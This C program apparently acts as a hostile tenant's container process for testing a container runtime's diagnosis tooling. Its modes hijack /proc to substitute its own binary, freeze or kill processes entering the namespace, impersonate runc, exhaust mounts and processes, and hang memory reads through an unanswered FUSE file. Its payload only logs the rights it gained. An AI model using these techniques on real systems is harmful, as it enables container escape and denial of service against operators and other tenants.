/* What a tenant may run as the first process of a container. attacker MODE [COUNT] */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/fuse.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/sendfile.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <unistd.h>

static const char evidence[] = "/evidence/owned";

static void must(int failed, const char *what) {
	if (failed) {
		perror(what);
		exit(1);
	}
}

static void put(const char *path, const char *text) {
	int file = open(path, O_WRONLY);
	if (file < 0 || write(file, text, strlen(text)) < 0) perror(path);
	close(file);
}

static void own_namespaces(void) {
	must(unshare(CLONE_NEWUSER | CLONE_NEWNS), "unshare");
	put("/proc/self/setgroups", "deny");
	put("/proc/self/uid_map", "0 0 1");
	put("/proc/self/gid_map", "0 0 1");
	must(mount("", "/", NULL, MS_REC | MS_PRIVATE, NULL), "private mounts");
}

static void copy(const char *from, const char *to) {
	struct stat size;
	int in = open(from, O_RDONLY), out = open(to, O_CREAT | O_WRONLY | O_TRUNC, 0755);
	if (in >= 0 && out >= 0 && !fstat(in, &size)) sendfile(out, in, NULL, size.st_size);
	close(in);
	close(out);
}

/* Executed in place of what a diagnosis asked for: tells with which rights. */
static int payload(void) {
	char line[256];
	FILE *status = fopen("/realproc/self/status", "r"), *told = fopen(evidence, "a");
	while (status && told && fgets(line, sizeof line, status))
		if (!strncmp(line, "CapEff", 6) || !strncmp(line, "Uid", 3)) fputs(line, told);
	return 0;
}

/* The newest process of this PID namespace, be it there or gone. */
static pid_t newest_by(const char *path) {
	char text[16] = "";
	int file = open(path, O_RDONLY);
	if (read(file, text, sizeof text - 1) < 0) perror("ns_last_pid");
	close(file);
	return atoi(text);
}
static pid_t last_pid(void) { return newest_by("/realproc/sys/kernel/ns_last_pid"); }
static pid_t newest_pid(void) { return newest_by("/proc/sys/kernel/ns_last_pid"); }

/* Its own /proc, where whatever path the last argument of a process names is a program of its own, before that is executed. */
static void own_proc(void) {
	char path[64], words[4096];
	mkdir("/realproc", 0755);
	own_namespaces();
	must(mount("/proc", "/realproc", NULL, MS_BIND | MS_REC, NULL), "bind /proc");
	must(mount("tmpfs", "/proc", "tmpfs", 0, "mode=755"), "cover /proc");
	printf("ready\n");
	fflush(stdout);
	for (pid_t last = last_pid();;) {
		pid_t pid = 0, known = last;
		for (int n = 0; n < 1000 && !pid; n++)
			if (!kill(known + 1, SIGSTOP)) pid = known + 1;
		last = last_pid();
		// one that came and went, or whose number is another's
		if (!pid && last != known && !kill(last, SIGSTOP)) pid = last;
		if (!pid) continue;
		snprintf(path, sizeof path, "/realproc/%d/cmdline", pid);
		int file = open(path, O_RDONLY);
		ssize_t size = file < 0 ? -1 : read(file, words, sizeof words);
		close(file);
		const char *word = words + (size > 1 ? size - 1 : 0);
		while (word > words && word[-1]) word--;
		if (size > 1 && !strncmp(word, "/proc/exec-doctor", 17)) copy("/attacker", word);
		kill(pid, SIGCONT);
	}
}

/* Looks for the node's own nsenter among what enters its PID namespace: whoever may open it there may write it, once it has ended. */
static void opens_programs(void) {
	char path[64], program[256];
	printf("ready\n");
	fflush(stdout);
	for (pid_t last = getpid();;)
		for (pid_t pid = last + 1; pid < last + 20; pid++) {
			if (kill(pid, SIGSTOP)) continue;
			last = pid;
			snprintf(path, sizeof path, "/proc/%d/exe", pid);
			ssize_t size = readlink(path, program, sizeof program - 1);
			program[size > 0 ? size : 0] = 0;
			int file = open(path, O_PATH), told;
			if (file >= 0 && strstr(program, "nsenter") && (told = open(evidence, O_CREAT | O_WRONLY | O_APPEND, 0644)) >= 0) {
				dprintf(told, "%s\n", program);
				close(told);
			}
			close(file);
			kill(pid, SIGCONT);
		}
}

/* Ends what a shim starts in its PID namespace, and lets through what somebody else does: a shim has no supplementary groups. */
static void ends_execs(void) {
	char path[64], status[4096];
	printf("ready\n");
	fflush(stdout);
	for (pid_t last = getpid(), newest;; last = newest) {
		while ((newest = newest_pid()) == last) usleep(500);
		for (pid_t pid = last + 1; pid <= newest; pid++) {
			if (kill(pid, SIGSTOP)) continue;
			snprintf(path, sizeof path, "/proc/%d/status", pid);
			int file = open(path, O_RDONLY);
			ssize_t size = read(file, status, sizeof status - 1);
			status[size > 0 ? size : 0] = 0;
			close(file);
			const char *groups = strstr(status, "Groups:\t");
			kill(pid, groups && groups[8] == '0' ? SIGCONT : SIGKILL);
		}
	}
}

/* In uninterruptible sleep, with the name of a step of runc's. */
static void stuck_as_runc(__u64 given_up) {
	struct __user_cap_header_struct head = {.version = _LINUX_CAPABILITY_VERSION_3};
	struct __user_cap_data_struct rights[2];
	must(syscall(SYS_capget, &head, rights), "capget");
	rights[0].effective &= ~given_up;
	must(syscall(SYS_capset, &head, rights), "capset");
	printf("ready\n");
	fflush(stdout);
	prctl(PR_SET_NAME, "runc:[2:INIT]");
	if (!vfork())
		for (;;) pause();
}

/* Each copy has all that were there before it: n of them make 2 to the nth. */
static void many_mounts(int doublings) {
	char copy[16];
	mkdir("/m", 0755);
	own_namespaces();
	must(mount("tmpfs", "/m", "tmpfs", 0, NULL), "tmpfs");
	for (int n = 0; n < doublings; n++) {
		snprintf(copy, sizeof copy, "/m/%d", n);
		mkdir(copy, 0755);
		must(mount("/m", copy, NULL, MS_BIND | MS_REC, NULL), "mount");
	}
}

static int __attribute__((noreturn)) sleeps(void *unused) {
	(void)unused;
	for (;;) pause();
}

static void many_processes(int count, const char *called) {
	const size_t stack = 4096;
	char *stacks = mmap(NULL, stack * count, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0);
	must(stacks == MAP_FAILED, "mmap");
	prctl(PR_SET_NAME, called);
	for (int n = 0; n < count; n++)
		if (clone(sleeps, stacks + stack * (n + 1), CLONE_VM | SIGCHLD, NULL) < 0) {
			perror("clone");
			break;
		}
}

/* A file system of one file, /unanswered: it can be opened; what is read is never answered, nor that it is closed. */
static void answer(int fuse, __u64 unique, const void *body, size_t size) {
	struct fuse_out_header head = {.len = sizeof head + size, .unique = unique};
	struct iovec parts[] = {{&head, sizeof head}, {(void *)body, size}};
	if (writev(fuse, parts, 2) < 0) perror("answer");
}

static void unanswered(void) {
	static char asked[1 << 20];
	const struct fuse_init_out init = {.major = 7, .minor = 31, .max_write = 4096};
	const struct fuse_attr_out file = {.attr = {.ino = 1, .size = 4096, .mode = S_IFREG | 0755, .nlink = 1}};
	const struct fuse_open_out opened = {0};
	char options[96];
	int fuse = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	must(fuse < 0, "/dev/fuse");
	close(open("/unanswered", O_CREAT, 0644));
	snprintf(options, sizeof options, "fd=%d,rootmode=100000,user_id=0,group_id=0", fuse);
	must(mount("fuse", "/unanswered", "fuse", 0, options), "mount fuse");
	if (fork()) {
		close(fuse);
		return;
	}
	while (read(fuse, asked, sizeof asked) > 0) {
		const struct fuse_in_header *head = (void *)asked;
		if (head->opcode == FUSE_INIT) answer(fuse, head->unique, &init, sizeof init);
		if (head->opcode == FUSE_GETATTR) answer(fuse, head->unique, &file, sizeof file);
		if (head->opcode == FUSE_OPEN) answer(fuse, head->unique, &opened, sizeof opened);
	}
	exit(0);
}

static void *reads_by_its_memory(void *page) {
	char byte;
	if (pread(open("/proc/self/mem", O_RDONLY), &byte, 1, (off_t)page) < 0) perror("mem");
	return NULL;
}

static void *maps(void *unused) {
	usleep(300000); // once that thread waits
	return unused ? NULL : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
}

/* One thread holds the lock of this memory while it waits for a page, another waits to change it: nobody else may read any of it. */
static void holds_its_memory(void) {
	pthread_t reader, writer;
	struct stat size;
	int file = open("/unanswered", O_RDONLY);
	must(file < 0 || fstat(file, &size), "/unanswered"); // the kernel does not know its size before
	void *page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
	must(page == MAP_FAILED, "mmap");
	// this one stays out of it: what waits itself is not looked at
	pthread_create(&writer, NULL, maps, NULL);
	pthread_create(&reader, NULL, reads_by_its_memory, page);
	for (;;) pause();
}

/* A process of that name that executes another program, which closes its file first. */
static void executes(const char *called) {
	if (fork()) return;
	prctl(PR_SET_NAME, called);
	open("/unanswered", O_RDONLY | O_CLOEXEC);
	execl("/bin/sleep", "sleep", "1000", NULL);
	exit(1);
}

int main(int count, char **words) {
	const char *mode = count > 1 ? words[1] : "", *number = count > 2 ? words[2] : "0", *called = count > 3 ? words[3] : "";
	if (strstr(words[0], "exec-doctor")) return payload();
	// what a diagnosis executes in a container of the mode holds-memory
	if (!strcmp(words[0], "/bin/echo")) holds_its_memory();
	if (!strcmp(mode, "holds-memory") || !strcmp(mode, "executes")) unanswered();
	if (!strcmp(mode, "holds-memory")) must(unlink("/bin/echo") || symlink("/attacker", "/bin/echo"), "/bin/echo");
	if (!strcmp(mode, "executes")) executes(number);
	if (!strcmp(mode, "own-proc")) own_proc();
	if (!strcmp(mode, "opens-programs")) opens_programs();
	if (!strcmp(mode, "ends-execs")) ends_execs();
	if (!strcmp(mode, "stuck-with-rights")) own_namespaces(); // all rights, in there
	if (!strncmp(mode, "stuck-", 6)) stuck_as_runc(strcmp(number, "0") ? strtoull(number, NULL, 0) : 0);
	if (!strcmp(mode, "mounts")) many_mounts(atoi(number));
	if (!strcmp(mode, "processes")) many_processes(atoi(number), called);
	printf("ready\n");
	fflush(stdout);
	for (;;) pause();
}
